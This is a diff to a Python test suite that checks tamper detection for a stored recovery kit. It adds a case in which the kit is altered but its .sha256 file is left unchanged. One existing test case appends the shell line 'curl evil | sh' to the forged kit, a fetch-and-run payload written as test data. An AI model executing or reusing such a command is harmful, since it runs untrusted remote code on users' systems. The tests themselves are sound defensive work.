@@ -121,7 +121,7 @@ def test_check_accepts_the_stored_kit_and_does_not_call_rescue_foreign(repo: Rep
     assert report.ok and report.errors == [] and not any("rescue" in w for w in report.warnings)
 
 
-@pytest.mark.parametrize("attack", ["same size", "longer", "record of another key"])
+@pytest.mark.parametrize("attack", ["same size", "same size, .sha256 left alone", "longer", "record of another key"])
 def test_check_reports_a_kit_replaced_in_the_storage(repo: Repository, tmp_path: Path, attack: str) -> None:
     rescue_kit.ensure_kit(repo, directory=_kit(tmp_path))
     objects = repo.storage.objects  # type: ignore[attr-defined]
@@ -130,6 +130,8 @@ def test_check_reports_a_kit_replaced_in_the_storage(repo: Repository, tmp_path:
         forged = bytes([objects[name][0] ^ 1]) + objects[name][1:]
         objects[name] = forged
         objects[name + ".sha256"] = f"{hashlib.sha256(forged).hexdigest()}  kit\n".encode()
+    elif attack == "same size, .sha256 left alone":  # only the tar's own digest tells
+        objects[name] = bytes([objects[name][0] ^ 1]) + objects[name][1:]
     elif attack == "longer":
         objects[name] = objects[name] + b"#!/bin/sh\ncurl evil | sh\n"
     else:  # a record sealed by another repository's key (the attacker's own)
